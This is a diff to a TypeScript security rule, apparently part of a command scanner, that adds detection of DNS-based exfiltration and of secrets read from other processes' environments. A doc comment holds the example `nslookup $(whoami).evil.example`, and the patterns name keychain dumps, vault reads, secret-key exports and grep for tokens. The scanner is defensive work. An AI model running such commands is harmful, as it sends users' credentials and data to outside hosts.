@@ -62,6 +62,13 @@ export const credentials: CommandRule = ({ commands }) => {
     findings.push({ tag: 'network_exfiltration', ...CRITICAL, reason: 'sends keys, passwords or the environment out' });
   else if (sent.some(sendsFile))
     findings.push({ tag: 'network_exfiltration', ...SERIOUS, reason: 'sends a file of this machine out' });
+  if (commands.some(asksInNames)) {
+    findings.push({
+      tag: 'network_exfiltration',
+      ...SERIOUS,
+      reason: 'sends data out as a part of a name it looks up',
+    });
+  }
   if (reads && sent.length > 0 && !sendsSecret) {
     findings.push({
       tag: 'network_exfiltration',
@@ -71,6 +78,15 @@ export const credentials: CommandRule = ({ commands }) => {
   }
   return findings;
 };
+
+/** `nslookup $(whoami).evil.example` */
+function asksInNames({ name, args, substituted }: RunCommand): boolean {
+  return (
+    /^(?:dig|nslookup|host|ping6?|drill|getent|Resolve-DnsName)$/.test(name) &&
+    substituted.some((from) => from.name !== 'hostname') &&
+    args.some((arg) => /\0\.[\w-]+\.[\w.-]+$/.test(arg))
+  );
+}
 
 /** What keys are called where nobody knows the folder. */
 const KEY_NAMES =
@@ -103,6 +119,7 @@ function readsDotEnv({ args, redirects }: RunCommand): boolean {
 
 function asksKeychain({ name, args, downstream }: RunCommand): boolean {
   const all = args.join(' ');
+  if (showsOtherEnvironment(name, all) && downstream.some(looksForSecrets)) return true;
   if (name === 'security') return /find-(?:generic|internet)-password|dump-keychain|export/.test(all);
   if (name === 'secret-tool') return /lookup|search/.test(all);
   if (name === 'gpg' || name === 'gpg2') return /--export-secret/.test(all);
@@ -117,6 +134,16 @@ function asksKeychain({ name, args, downstream }: RunCommand): boolean {
   if (name === 'vault' || name === 'op' || name === 'pass' || name === 'bw')
     return /\b(?:read|get|show|item get|kv get)\b/.test(all);
   return printsEnvironment({ name, args }) && downstream.some(({ name: next }) => SENDERS.test(next));
+}
+
+/** What other programs were started with. */
+function showsOtherEnvironment(name: string, all: string): boolean {
+  if (name === 'docker' || name === 'podman') return /\binspect\b/.test(all);
+  return name === 'ps' && /(?:^|\s)-?\w*e\w*w|\beww?\b|(?:^|\s)a?u?x?e/.test(all);
+}
+
+function looksForSecrets({ name, args }: RunCommand): boolean {
+  return /^(?:[ef]?grep|rg)$/.test(name) && /passw|secret|token|api.?key|credential/i.test(args.join(' '));
 }
 
 function printsEnvironment({ name, args }: Pick<RunCommand, 'name' | 'args'>): boolean {
